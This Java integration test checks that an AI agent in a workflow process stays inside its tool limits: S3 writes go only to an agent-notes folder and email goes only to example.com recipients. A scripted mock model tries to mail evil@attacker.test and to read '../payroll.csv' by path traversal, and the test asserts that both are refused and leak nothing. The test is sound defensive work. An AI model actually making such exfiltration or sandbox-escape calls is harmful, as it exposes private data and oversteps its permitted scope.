package dev.flowconnections.sample;

import static dev.flowconnections.sample.support.ChatCompletions.answer;
import static dev.flowconnections.sample.support.ChatCompletions.toolCall;
import static dev.flowconnections.sample.support.ChatCompletions.toolCalls;
import static dev.flowconnections.sample.support.ChatCompletions.toolResults;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.icegreen.greenmail.configuration.GreenMailConfiguration;
import com.icegreen.greenmail.junit5.GreenMailExtension;
import com.icegreen.greenmail.util.ServerSetupTest;
import dev.flowconnections.connection.ConnectionView;
import dev.flowconnections.environment.Environment;
import dev.flowconnections.fields.FieldCatalog;
import dev.flowconnections.integration.AuthScheme;
import dev.flowconnections.integration.IntegrationType;
import dev.flowconnections.runtime.testsupport.FakeS3Server;
import dev.flowconnections.runtime.testsupport.RecordingHttpServer;
import dev.flowconnections.sample.support.ProcessTestRuntime;
import jakarta.mail.internet.MimeMessage;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

/**
 * {@code bpmn/ai-agent-office-example.bpmn} in a DEVELOPMENT runtime: an AI agent writes a note
 * with its File Manager Tool (S3, confined to agent-notes) and answers a customer with its Email
 * Tool (SMTP, only example.com). What the model tries outside those bounds comes back to it as a
 * failed tool result, and nothing outside them is sent or touched.
 */
class AgentOfficeToolsProcessTest extends ExampleProcessTestBase {

  static final ProcessTestRuntime RUNTIME = ProcessTestRuntime.start(Environment.DEVELOPMENT);
  static final RecordingHttpServer MODEL = RUNTIME.server();
  static final ObjectMapper JSON = new ObjectMapper();

  static final String USER = "svc-office";
  static final String SMTP_PASSWORD = "e2e-office-smtp-pw-91";
  static final String ACCESS_KEY_ID = "AKIAE2EOFFICEAGENT01";
  static final String S3_SECRET = "e2e-office-s3-secret/0123456789abcdefghij";
  static final String BUCKET = "e2e-office";
  static final FakeS3Server S3 = startS3();

  @RegisterExtension
  static final GreenMailExtension GREEN_MAIL =
      new GreenMailExtension(ServerSetupTest.SMTP.dynamicPort())
          .withConfiguration(
              GreenMailConfiguration.aConfig().withUser("office@example.com", USER, SMTP_PASSWORD));

  private static FakeS3Server startS3() {
    FakeS3Server s3 = FakeS3Server.start(ACCESS_KEY_ID, S3_SECRET).createBucket(BUCKET);
    Runtime.getRuntime().addShutdownHook(new Thread(s3::close));
    return s3;
  }

  @DynamicPropertySource
  static void properties(DynamicPropertyRegistry registry) {
    RUNTIME.register(registry);
  }

  AgentOfficeToolsProcessTest() {
    super(RUNTIME, "ai-agent-office-example");
  }

  @Test
  void theAgentWritesInsideItsFolderMailsOnlyAllowedRecipientsAndHearsOfEverythingRefused()
      throws Exception {
    S3.put(BUCKET, "payroll.csv", "ann,100000".getBytes(StandardCharsets.UTF_8), "text/csv");
    AtomicInteger turns = new AtomicInteger();
    MODEL.reset();
    MODEL.respond(
        request ->
            switch (turns.incrementAndGet()) {
              case 1 ->
                  toolCalls(
                      toolCall(
                          "call_note",
                          "Notes",
                          "{\"operation\":\"upload\",\"path\":\"order-42.txt\",\"content\":\"Shipped.\"}"),
                      toolCall(
                          "call_mail",
                          "SendReply",
                          "{\"to\":\"ann@example.com\",\"subject\":\"Order 42\",\"textBody\":\"It shipped.\"}"));
              case 2 ->
                  toolCalls(
                      toolCall(
                          "call_exfiltrate",
                          "SendReply",
                          "{\"to\":\"evil@attacker.test\",\"subject\":\"x\",\"textBody\":\"x\"}"),
                      toolCall(
                          "call_escape",
                          "Notes",
                          "{\"operation\":\"download\",\"path\":\"../payroll.csv\"}"));
              default -> answer("Noted and answered.");
            });

    long instance =
        start(
            Map.of(
                "aiConnection", keyOf(aiConnection(secret("sk-e2e-office-dev-key-92"))),
                "mailConnection", keyOf(smtpConnection()),
                "filesConnection", keyOf(s3Connection()),
                "request", "Order 42 of ann@example.com shipped: note it and tell her."));

    records.awaitCompleted(instance);
    assertThat(records.variables(instance)).containsEntry("answer", "\"Noted and answered.\"");
    assertThat(S3.object(BUCKET, "agent-notes/order-42.txt"))
        .hasValueSatisfying(
            note ->
                assertThat(new String(note.content(), StandardCharsets.UTF_8))
                    .isEqualTo("Shipped."));
    MimeMessage[] mails = GREEN_MAIL.getReceivedMessages();
    assertThat(mails).hasSize(1);
    assertThat(mails[0].getAllRecipients()[0].toString()).isEqualTo("ann@example.com");

    Map<String, String> refused = toolResults(JSON.readTree(MODEL.requests().get(2).body()));
    assertThat(refused.get("call_exfiltrate")).startsWith("Error: ").contains("evil@attacker.test");
    assertThat(refused.get("call_escape")).startsWith("Error: ").doesNotContain("ann,100000");
    assertThat(S3.requestLog()).noneMatch(line -> line.contains("payroll"));
  }

  private ConnectionView aiConnection(String developmentKey) {
    return connections.openAiConnection(MODEL.baseUrl(), developmentKey);
  }

  private ConnectionView smtpConnection() {
    ConnectionView connection =
        connections.connection(
            IntegrationType.EMAIL,
            AuthScheme.NONE,
            Map.of(
                "provider", "SMTP",
                "host", "127.0.0.1",
                "port", GREEN_MAIL.getSmtp().getPort(),
                "tlsMode", "NONE",
                "fromAddress", "office@example.com"));
    connections.credentials(
        connection,
        Environment.DEVELOPMENT,
        Map.of("username", USER, "password", secret(SMTP_PASSWORD)));
    return connection;
  }

  private ConnectionView s3Connection() {
    ConnectionView connection =
        connections.connection(
            IntegrationType.STORAGE,
            AuthScheme.NONE,
            Map.of(
                "provider",
                "AMAZON_S3",
                FieldCatalog.BASE_URL,
                S3.endpoint(),
                "region",
                "eu-central-1",
                "bucket",
                BUCKET,
                "pathStyleAccess",
                true));
    connections.credentials(
        connection,
        Environment.DEVELOPMENT,
        Map.of("accessKeyId", ACCESS_KEY_ID, "secretAccessKey", secret(S3_SECRET)));
    return connection;
  }
}
